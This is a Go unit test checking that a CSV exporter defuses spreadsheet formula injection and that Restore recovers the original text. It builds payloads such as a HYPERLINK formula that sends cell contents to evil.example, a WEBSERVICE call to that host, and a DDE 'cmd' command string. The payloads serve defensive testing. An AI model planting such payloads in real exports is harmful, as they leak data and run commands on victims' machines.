package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/parley-press/parley"
	"github.com/parley-press/parley/internal/export"
)

// TestSheetPayloads: fifty texts that a spreadsheet would run come out of an export as text, and Restore gives each back.
func TestSheetPayloads(t *testing.T) {
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "＠"}
	formulas := []string{"1+1", `HYPERLINK("http://evil.example/?x="&A1,"tides")`, "cmd|' /C calc'!A0", "SUM(A1:A9)", "WEBSERVICE(\"http://evil.example\")"}
	rec := &parley.Record{}
	var all []string
	for _, s := range starts {
		for _, f := range formulas {
			all = append(all, s+f)
		}
	}
	for _, p := range all {
		rec.Entities = append(rec.Entities, parley.Entity{ID: p, Name: p, Role: p, Type: parley.Person})
	}
	var b bytes.Buffer
	if err := export.CSV(&b, rec, "entities"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != len(all)+1 || len(all) != 50 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, r := range rows[1:] {
		seen := 0
		for _, c := range r {
			if c != "" && strings.ContainsAny(strings.TrimLeft(c, " \t\r\n\u00a0\u3000")[:1], "=+-@\uff1d") {
				t.Errorf("%q is a formula", c)
			}
			if export.Restore(c) == all[i] {
				seen++
			}
		}
		if seen < 2 {
			t.Errorf("%q is restored in %d cells of %q", all[i], seen, r)
		}
	}
}
